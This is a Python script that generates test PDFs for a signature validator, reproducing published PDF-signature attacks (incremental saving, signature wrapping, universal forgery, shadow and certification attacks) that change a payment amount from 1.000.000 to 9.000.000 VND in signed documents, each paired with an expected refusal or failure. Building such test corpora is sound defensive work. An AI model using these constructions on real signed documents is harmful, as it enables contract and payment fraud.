"""Attack shapes from the PDF-signature literature, crafted on bytes.

Usage: attacks.py OUTDIR   (after build_pdfs.py has run on the same OUTDIR)

Every manipulation after a signature is written by hand here: new objects, a
cross-reference table section with /Prev, a trailer, startxref and %%EOF, or an
in-place edit of the signed bytes. pyHanko is used only to read object numbers
and to sign the attacker-prepared documents of the shadow attacks (the
attacker is the one who prepared the document the victim signs).
"""

import io
import os
import re
import subprocess

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

import _common as C
import build_pdfs as B

OUT = B.OUT
R = C.row
P, F, FF = 'TOTAL-PASSED', 'TOTAL-FAILED', 'FORMAT_FAILURE'

AMOUNT_OP = b'BT 31.18 626.94 Td (So tien thanh toan: 1.000.000 VND) Tj ET'
FORGED_OP = b'BT 31.18 626.94 Td (So tien thanh toan: 9.000.000 VND) Tj ET'
# White box over the amount line, then the benign line again (font F1 = Helvetica-Bold 12).
OVERLAY = (b'q 1 1 1 rg 28 620 260 20 re f Q\n'
           b'BT /F1 12 Tf 0 g ET\n' + AMOUNT_OP + b'\n')


def read(name):
    with open(os.path.join(OUT, name), 'rb') as f:
        return f.read()


def write(name, data):
    return C.write(OUT, name, data)


def case(name, rows, how):
    C.add_case(OUT, name, rows, how)


def page_info(data, page=0):
    """(page objnum, page dict, content objnum) of a page in the newest revision."""
    r = PdfFileReader(io.BytesIO(data))
    pref = C.page_refs(r)[page]
    pg = pref.get_object()
    cref = pg.raw_get('/Contents')
    return pref.idnum, pg, cref.idnum if isinstance(cref, generic.IndirectObject) else None, r


def page_content(data, page=0):
    num, pg, cnum, r = page_info(data, page)
    return r.get_object(generic.Reference(cnum, 0)).data


def sig_dict_span(data, field='Sig1'):
    """(start, end) of the signature dictionary object 'N 0 obj ... endobj' and N."""
    r = PdfFileReader(io.BytesIO(data))
    sig = next(s for s in r.embedded_signatures if s.field_name == field)
    num = sig.sig_field.raw_get('/V').idnum
    m = list(re.finditer(rb'(?<![0-9])%d 0 obj' % num, data))[-1]
    end = data.index(b'endobj', m.start()) + len(b'endobj')
    return m.start(), end, num


# --------------------------------------------------------------------------
# ISA: incremental saving attacks

def isa(single):
    pnum, pg, cnum, _ = page_info(single)
    size = C.trailer_info(single)[0]['Size']
    new_content = page_content(single).replace(AMOUNT_OP, FORGED_OP)
    # The page object of the signed revision, redefined to use a new content stream.
    page = C.pdf_str(pg).replace(b'/Contents %d 0 R' % cnum, b'/Contents %d 0 R' % size)
    assert page != C.pdf_str(pg)
    data = C.append_update(single, {pnum: page, size: C.stream_obj(new_content)})
    write('isa-overwrite-object.pdf', data)
    case('isa-overwrite-object.pdf', [R(1, 'Sig1', C.CADES, F, FF, 'other',
                                        'page 1 object redefined by a later update, no new signature')],
         'single-cades.pdf + a hand-written update redefining the page 1 object (new content stream)')

    # Objects appended after %%EOF with no xref section, trailer or startxref:
    # a repairing reader takes the later definition of the content stream.
    tail = (b'%d 0 obj\n' % cnum + C.stream_obj(new_content) + b'\nendobj\n')
    data = single + tail
    write('isa-no-xref.pdf', data)
    case('isa-no-xref.pdf', [R('-', '-', '-', 'REFUSED', 'malformed', '-',
                               'bytes after the last %%EOF that no xref section announces; '
                               'pyHanko differs: it ignores them (EXTENDED_WITH_NONE), while a '
                               'reader that repairs the file shows the appended content stream')],
         'single-cades.pdf + a redefinition of page 1 content stream appended after %%EOF '
         'without xref/trailer')


# --------------------------------------------------------------------------
# SWA: signature wrapping (Mladenov et al., CCS 2019)

def swa(single):
    """Move the second signed range to the end and hide a new revision in the gap.

    The signed file is [0,a) <contents> [c,c+d). The attacker keeps both signed
    ranges byte for byte, but shifts the second one to c' > c. In the enlarged
    gap go: the original <contents> string (unchanged), a copy of the signature
    dictionary whose /ByteRange is [0 a c' d], a forged content stream, and, at
    exactly the offset X the signed startxref names, a cross-reference table
    that points the signature dictionary and page 1's content to the copies.
    The signed bytes still hash to the signed value and cover "everything but
    the gap", and the gap ends at the end of the file, so a validator that only
    checks ByteRange arithmetic sees an entire-file signature.
    """
    start, end, signum = sig_dict_span(single)
    m = re.search(rb'/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]', single[start:end])
    br = [int(x) for x in m.groups()]
    a, c, d = br[1], br[2], br[3]
    assert br[0] == 0 and c + d == len(single)
    part1, contents, part2 = single[:a], single[a:c], single[c:]
    x = C.last_startxref(single)           # the signing revision's xref, inside part2
    prev = int(re.search(rb'/Prev\s+(\d+)', single[x:]).group(1))
    assert x > c
    info, r = C.trailer_info(single)
    pnum, pg, cnum, _ = page_info(single)
    # entries of the signing revision's xref section
    sec = single[x:single.index(b'trailer', x)]
    entries = {}
    lines = sec.split(b'\n')[1:]
    i = 0
    while i < len(lines):
        hdr = lines[i].split()
        if len(hdr) != 2:
            i += 1
            continue
        first, count = int(hdr[0]), int(hdr[1])
        for k in range(count):
            off, gen, kind = lines[i + 1 + k].split()[:3]
            entries[first + k] = None if kind == b'f' else int(off)
        i += 1 + count

    forged = page_content(single).replace(AMOUNT_OP, FORGED_OP)
    sig_src = single[start:end]
    # c' is chosen so that everything below fits; the gap is padded with spaces.
    c2 = x + 4096 + len(forged) + len(sig_src)
    new_br = b'/ByteRange [0 %d %d %d]' % (a, c2, d)
    old_br = m.group(0)
    # The copy of the signature dictionary: same /Contents, the new /ByteRange.
    sig_copy = sig_src[sig_src.index(b'<<'):sig_src.rindex(b'>>') + 2]
    sig_copy = sig_copy.replace(old_br, new_br, 1)
    gap = bytearray(contents + b'\n')
    assert a + len(gap) < x
    gap += b' ' * (x - a - len(gap))        # the xref table lands at offset x
    xref_entries = dict(entries)
    trailer = (b'trailer\n<< /Size %d /Root %s /Info %s /ID %s /Prev %d >>\n'
               % (info['Size'], C.pdf_str(info['Root']), C.pdf_str(info['Info']),
                  C.pdf_str(info['ID']), prev))
    # objects go after the table; their offsets are known once the table's length is
    objs = [(signum, sig_copy), (cnum, C.stream_obj(forged))]
    table_len = len(C.xref_table({**xref_entries, signum: 0, cnum: 0})) + len(trailer)
    pos = x + table_len + 1
    body = bytearray()
    for num, obj in objs:
        xref_entries[num] = pos + len(body)
        body += b'%d 0 obj\n' % num + obj + b'\nendobj\n'
    table = C.xref_table(xref_entries)
    assert len(table) + len(trailer) == table_len
    gap += table + trailer + b'\n' + body
    assert a + len(gap) <= c2
    gap += b' ' * (c2 - a - len(gap))
    data = part1 + bytes(gap) + part2
    assert data[c2:] == part2 and data[:a] == part1
    write('swa-moved-contents.pdf', data)
    case('swa-moved-contents.pdf', [R('-', '-', '-', 'REFUSED', 'malformed', '-',
                                      'the file as a whole is refused: the cross-reference section '
                                      'its last startxref names (the one hidden in the gap) is not '
                                      'followed by its own startxref and %%EOF, so the revisions do '
                                      'not read end to end; the signature could not pass either, '
                                      'since its gap is not its /Contents string')],
         'single-cades.pdf with its second signed range moved to the end of the file and a '
         'cross-reference table, a signature dictionary copy with /ByteRange [0 a c\' d] and a '
         'forged content stream hidden in the enlarged gap')


# --------------------------------------------------------------------------
# USF: universal signature forgery (in-place edits of the signature dictionary,
# plus the forged amount in the signed page content, all at unchanged length)

def usf(single):
    start, end, _ = sig_dict_span(single)
    forged_base = single.replace(AMOUNT_OP, FORGED_OP, 1)
    assert forged_base != single and len(forged_base) == len(single)

    def edit(name, pattern, repl_fn, note):
        m = re.search(pattern, forged_base[start:end], re.S)
        old = m.group(0)
        new = repl_fn(old)
        assert len(new) <= len(old)
        new = new + b' ' * (len(old) - len(new))
        data = forged_base[:start + m.start()] + new + forged_base[start + m.end():]
        assert len(data) == len(single)
        write(name, data)
        case(name, [R(1, 'Sig1', C.CADES, F, FF, 'none', note)],
             'single-cades.pdf edited in place (same length): ' + note +
             '; the amount on page 1 changed to 9.000.000')

    br = rb'/ByteRange\s*\[[^\]]*\]'
    edit('usf-no-byterange.pdf', br, lambda o: b'', '/ByteRange removed')
    edit('usf-byterange-null.pdf', br, lambda o: b'/ByteRange null', '/ByteRange null')
    edit('usf-byterange-zero.pdf', br, lambda o: b'/ByteRange [0 0 0 0]', '/ByteRange [0 0 0 0]')
    ct = rb'/Contents\s*<[0-9A-Fa-f]*>'
    edit('usf-contents-empty.pdf', ct, lambda o: b'/Contents <>', '/Contents <> (empty)')
    edit('usf-no-contents.pdf', ct, lambda o: b'', '/Contents removed')


# --------------------------------------------------------------------------
# Shadow attacks (Mainka et al., NDSS 2021): the attacker prepares the document,
# the victim signs it, the attacker then adds an update.

def shadow_hide(base):
    # Preparation (pyHanko writer, unsigned revision): page 1 now draws the forged
    # amount, and a second content stream paints a white box over it and the
    # benign amount again. /Contents is an indirect array [main overlay].
    w = IncrementalPdfFileWriter(io.BytesIO(base))
    pref = C.page_refs(w.prev)[0]
    pg = pref.get_object()
    cref = pg.raw_get('/Contents')
    main = cref.get_object().data.replace(AMOUNT_OP, FORGED_OP)
    w.objects[(0, cref.idnum)] = generic.StreamObject(stream_data=main)
    overlay = w.add_object(generic.StreamObject(stream_data=OVERLAY))
    arr = w.add_object(generic.ArrayObject([cref, overlay]))
    pg[pdf_name('/Contents')] = arr
    w.update_container(pg)
    out = io.BytesIO()
    w.write(out)
    prepared = out.getvalue()
    signed = B.sign(prepared, 'Sig1')
    # Attack: redefine the array object without the overlay.
    data = C.append_update(signed, {arr.idnum: b'[ %d 0 R ]' % cref.idnum})
    write('shadow-hide.pdf', data)
    case('shadow-hide.pdf', [R(1, 'Sig1', C.CADES, F, FF, 'other',
                               'the /Contents array of page 1 redefined without the overlay')],
         'attacker-prepared document (forged amount under a white overlay), signed by pyHanko, '
         'then a hand-written update dropping the overlay from the page\'s /Contents array')


def shadow_replace(single):
    # Attack on an ordinary signed document: the Helvetica-Bold font object of the
    # signed revision is redefined with an encoding that draws code 0x31 ('1') as
    # the glyph 'nine', so the signed content stream now shows 9.000.000.
    num, pg, _, r = page_info(single)
    fonts = pg['/Resources']['/Font']
    fref = fonts.raw_get('/F1')
    assert fonts['/F1']['/BaseFont'] == '/Helvetica-Bold'
    font = (b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold /Encoding '
            b'<< /Type /Encoding /BaseEncoding /WinAnsiEncoding /Differences [ 49 /nine ] >> >>')
    data = C.append_update(single, {fref.idnum: font})
    write('shadow-replace.pdf', data)
    case('shadow-replace.pdf', [R(1, 'Sig1', C.CADES, F, FF, 'other',
                                  'a font object of the signed revision redefined')],
         'single-cades.pdf + a hand-written update redefining the Helvetica-Bold font object '
         'with /Differences [49 /nine]')


def shadow_hide_and_replace(base):
    # Preparation: an unreferenced shadow document inside the signed revision:
    # a second catalog, page tree and page 1 drawing the forged amount.
    w = IncrementalPdfFileWriter(io.BytesIO(base))
    pages = C.page_refs(w.prev)
    pg1 = pages[0].get_object()
    forged = pg1['/Contents'].data.replace(AMOUNT_OP, FORGED_OP)
    sh_content = w.add_object(generic.StreamObject(stream_data=forged))
    sh_pages = w.allocate_placeholder()
    sh_page1 = generic.DictionaryObject({
        pdf_name('/Type'): pdf_name('/Page'), pdf_name('/Parent'): sh_pages,
        pdf_name('/Resources'): pg1.raw_get('/Resources'),
        pdf_name('/MediaBox'): generic.ArrayObject(
            map(generic.FloatObject, (0, 0, 595.28, B.PAGE_H))),
        pdf_name('/Contents'): sh_content,
        pdf_name('/Annots'): pg1.raw_get('/Annots')})
    pg2 = pages[1].get_object()
    sh_page2 = generic.DictionaryObject({
        pdf_name('/Type'): pdf_name('/Page'), pdf_name('/Parent'): sh_pages,
        pdf_name('/Resources'): pg2.raw_get('/Resources'),
        pdf_name('/MediaBox'): generic.ArrayObject(
            map(generic.FloatObject, (0, 0, 595.28, B.PAGE_H))),
        pdf_name('/Contents'): pg2.raw_get('/Contents'),
        pdf_name('/Annots'): pg2.raw_get('/Annots')})
    kids = generic.ArrayObject([w.add_object(sh_page1), w.add_object(sh_page2)])
    w.add_object(generic.DictionaryObject({
        pdf_name('/Type'): pdf_name('/Pages'), pdf_name('/Kids'): kids,
        pdf_name('/Count'): generic.NumberObject(2)}), idnum=sh_pages.idnum)
    root = w.root
    sh_root = generic.DictionaryObject({
        pdf_name('/Type'): pdf_name('/Catalog'), pdf_name('/Pages'): sh_pages,
        pdf_name('/AcroForm'): root.raw_get('/AcroForm')})
    sh_root_ref = w.add_object(sh_root)
    out = io.BytesIO()
    w.write(out)
    prepared = out.getvalue()
    signed = B.sign(prepared, 'Sig1')
    # Attack: an update made of nothing but a cross-reference section (the free-list
    # head only) and a trailer whose /Root is the shadow catalog.
    data = C.append_update(signed, {}, root=b'%d 0 R' % sh_root_ref.idnum)
    write('shadow-hide-and-replace.pdf', data)
    case('shadow-hide-and-replace.pdf', [R(1, 'Sig1', C.CADES, F, FF, 'other',
                                           'the trailer /Root switched to a catalog that '
                                           'was unreferenced when signed')],
         'attacker-prepared document holding an unreferenced shadow catalog and page tree, '
         'signed by pyHanko, then an update with no object: an xref section and a trailer '
         'whose /Root names the shadow catalog')

    # Variant: the prepared revision carries a dead definition of page 1's content
    # stream (bytes that its own xref section does not list); after signing, an
    # xref-only update points that object number back at the dead bytes.
    cnum = pg1.raw_get('/Contents').idnum
    dead = b'%d 0 obj\n' % cnum + C.stream_obj(forged) + b'\nendobj\n'
    d0 = base if base.endswith(b'\n') else base + b'\n'
    dead_at = len(d0)
    harmless = b'<< /Type /Note >>'
    size = C.trailer_info(base)[0]['Size']
    prepared = C.append_update(d0 + dead, {size: harmless})
    signed = B.sign(prepared, 'Sig1')
    data = C.append_update(signed, {}, xref_entries={cnum: dead_at})
    write('shadow-hide-and-replace-xref.pdf', data)
    case('shadow-hide-and-replace-xref.pdf',
         [R('-', '-', '-', 'REFUSED', 'malformed', '-',
            'the last xref section points object %d at bytes of an earlier revision (an update\'s '
            'entries must point inside the update); pyHanko follows the entry and reports the '
            'change as illegal' % cnum)],
         'attacker-prepared revision with a dead (unlisted) definition of page 1 content, '
         'signed by pyHanko, then an xref-only update pointing that object number at it')


# --------------------------------------------------------------------------
# Certification attacks (Mainka et al., IEEE S&P 2021)

FORGED_AP = (b'q 1 1 1 rg 0 0 260 22 re f Q BT /Helv 12 Tf 0 g 3.18 6.94 Td '
             b'(So tien thanh toan: 9.000.000 VND) Tj ET')


def add_to_page1(data, new_objs, annot_num):
    """Page 1 redefined with one more annotation; returns the objects to write."""
    pnum, pg, _, r = page_info(data)
    annots = pg.raw_get('/Annots') if '/Annots' in pg else generic.ArrayObject()
    if isinstance(annots, generic.IndirectObject):
        raise ValueError('indirect /Annots')
    new = C.pdf_str(generic.ArrayObject(list(annots) + [generic.IndirectObject(annot_num, 0, None)]))
    page = C.pdf_str(pg)
    page = re.sub(rb'/Annots\s*\[[^\]]*\]', lambda m: b'/Annots ' + new, page, count=1)
    new_objs[pnum] = page
    return pnum, r


def evil_annotation(cert_p2):
    size = C.trailer_info(cert_p2)[0]['Size']
    helv = C.pdf_str(PdfFileReader(io.BytesIO(cert_p2)).root['/AcroForm'].raw_get('/DR')['/Font'].raw_get('/Helv'))
    ap, annot = size, size + 1
    objs = {
        ap: C.stream_obj(FORGED_AP, b' /Type /XObject /Subtype /Form /BBox [0 0 260 22]'
                         b' /Resources << /Font << /Helv ' + helv + b' >> >>'),
    }
    pnum, _ = add_to_page1(cert_p2, objs, annot)
    objs[annot] = (b'<< /Type /Annot /Subtype /FreeText /Rect [28 620 288 642] /F 4 '
                   b'/P %d 0 R /DA (/Helv 12 Tf 0 g) /Contents (So tien thanh toan: 9.000.000 VND) '
                   b'/AP << /N %d 0 R >> >>' % (pnum, ap))
    write('evil-annotation-p2.pdf', C.append_update(cert_p2, objs))
    case('evil-annotation-p2.pdf', [R(1, 'Sig1', C.CADES, F, FF, 'annotations',
                                      'P=2 permits no annotation; this one paints over the amount')],
         'certified-p2.pdf + a hand-written update adding a FreeText annotation whose '
         'appearance covers the amount with 9.000.000')


def sneaky_signature(cert_p2):
    size = C.trailer_info(cert_p2)[0]['Size']
    r = PdfFileReader(io.BytesIO(cert_p2))
    helv = C.pdf_str(r.root['/AcroForm'].raw_get('/DR')['/Font'].raw_get('/Helv'))
    ap, field = size, size + 1
    objs = {
        ap: C.stream_obj(FORGED_AP, b' /Type /XObject /Subtype /Form /BBox [0 0 260 22]'
                         b' /Resources << /Font << /Helv ' + helv + b' >> >>'),
    }
    pnum, r = add_to_page1(cert_p2, objs, field)
    objs[field] = (b'<< /FT /Sig /T (Sig3) /Type /Annot /Subtype /Widget /F 4 '
                   b'/Rect [28 620 288 642] /P %d 0 R /AP << /N %d 0 R >> >>' % (pnum, ap))
    # the catalog, with the new field in /AcroForm /Fields
    root_ref = r.root_ref
    cat = C.pdf_str(r.root)
    m = re.search(rb'/Fields\s*\[([^\]]*)\]', cat)
    cat = cat[:m.start()] + b'/Fields [' + m.group(1) + b' %d 0 R]' % field + cat[m.end():]
    objs[root_ref.idnum] = cat
    write('sneaky-signature-p2.pdf', C.append_update(cert_p2, objs))
    case('sneaky-signature-p2.pdf', [R(1, 'Sig1', C.CADES, F, FF, 'annotations',
                                       'a new signature field that is never signed but shows '
                                       'content is an annotation, which P=2 does not permit')],
         'certified-p2.pdf + a hand-written update adding an unsigned signature field Sig3 '
         'whose widget appearance covers the amount with 9.000.000')


# --------------------------------------------------------------------------
# Files kyso refuses whole

def encrypted(base):
    src = os.path.join(OUT, '.base-for-enc.pdf')
    enc = os.path.join(OUT, '.base-enc.pdf')
    with open(src, 'wb') as f:
        f.write(base)
    subprocess.run(['qpdf', '--encrypt', '', 'kyso-owner', '256', '--', src, enc], check=True)
    with open(enc, 'rb') as f:
        data = f.read()
    os.remove(src)
    os.remove(enc)
    w = IncrementalPdfFileWriter(io.BytesIO(data))
    w.encrypt(b'')
    from pyhanko.sign import fields, signers
    meta = signers.PdfSignatureMetadata(field_name='Sig1', subfilter=fields.SigSeedSubFilter.PADES,
                                        md_algorithm='sha256')
    ps = signers.PdfSigner(meta, signer=B.signer_for('rsa2048'), stamp_style=B.STAMP)
    out = io.BytesIO()
    ps.sign_pdf(w, output=out)
    write('encrypted-signed.pdf', out.getvalue())
    case('encrypted-signed.pdf', [R('-', '-', '-', 'REFUSED', 'encrypted', '-',
                                    'AES-256 (R6), empty user password; pyHanko differs: it '
                                    'decrypts with the empty password and validates the '
                                    'signature, kyso refuses encrypted files by design')],
         'base.pdf encrypted by qpdf (AES-256, empty user password), then signed by pyHanko')


def hybrid(single):
    """A hybrid-reference update: a classic xref table for old readers, and an
    /XRefStm cross-reference stream, seen only by PDF 1.5 readers, that redefines
    page 1 (inside an object stream) with a new content stream."""
    pnum, pg, cnum, _ = page_info(single)
    info, _ = C.trailer_info(single)
    size = info['Size']
    content_num, objstm_num, xref_num = size, size + 1, size + 2
    forged = page_content(single).replace(AMOUNT_OP, FORGED_OP)
    page = C.pdf_str(pg).replace(b'/Contents %d 0 R' % cnum, b'/Contents %d 0 R' % content_num)
    head = b'%d 0 ' % pnum
    objstm_data = head + page
    out = bytearray(single if single.endswith(b'\n') else single + b'\n')
    content_at = len(out)
    out += b'%d 0 obj\n' % content_num + C.stream_obj(forged) + b'\nendobj\n'
    objstm_at = len(out)
    out += (b'%d 0 obj\n' % objstm_num
            + C.stream_obj(objstm_data, b' /Type /ObjStm /N 1 /First %d' % len(head), compress=True)
            + b'\nendobj\n')
    xref_at = len(out)
    rows = {content_num: (1, content_at, 0), objstm_num: (1, objstm_at, 0),
            xref_num: (1, xref_at, 0), pnum: (2, objstm_num, 0)}
    index, blob = [], b''
    for n in sorted(rows):
        index += [n, 1]
        t, f2, f3 = rows[n]
        blob += bytes([t]) + f2.to_bytes(4, 'big') + f3.to_bytes(2, 'big')
    idx = b' '.join(b'%d' % v for v in index)
    out += (b'%d 0 obj\n' % xref_num
            + C.stream_obj(blob, b' /Type /XRef /Size %d /W [1 4 2] /Index [%s]'
                           % (xref_num + 1, idx), compress=True)
            + b'\nendobj\n')
    table_at = len(out)
    out += C.xref_table({0: None})
    out += (b'trailer\n<< /Size %d /Root %s /Info %s /ID %s /Prev %d /XRefStm %d >>\n'
            % (xref_num + 1, C.pdf_str(info['Root']), C.pdf_str(info['Info']),
               C.pdf_str(info['ID']), C.last_startxref(single), xref_at))
    out += b'startxref\n%d\n%%%%EOF\n' % table_at
    write('hybrid-xref.pdf', bytes(out))
    case('hybrid-xref.pdf', [R('-', '-', '-', 'REFUSED', 'hybrid-xref', '-',
                               'the /XRefStm stream redefines page 1, which readers of the '
                               'classic table alone do not see; pyHanko refuses hybrid files '
                               'unless --no-strict-syntax')],
         'single-cades.pdf + a hybrid-reference update (classic xref table with /XRefStm)')


def main():
    base = read('base.pdf')
    single = read('single-cades.pdf')
    cert_p2 = read('certified-p2.pdf')
    isa(single)
    swa(single)
    usf(single)
    shadow_hide(base)
    shadow_replace(single)
    shadow_hide_and_replace(base)
    evil_annotation(cert_p2)
    sneaky_signature(cert_p2)
    encrypted(base)
    hybrid(single)


if __name__ == '__main__':
    main()
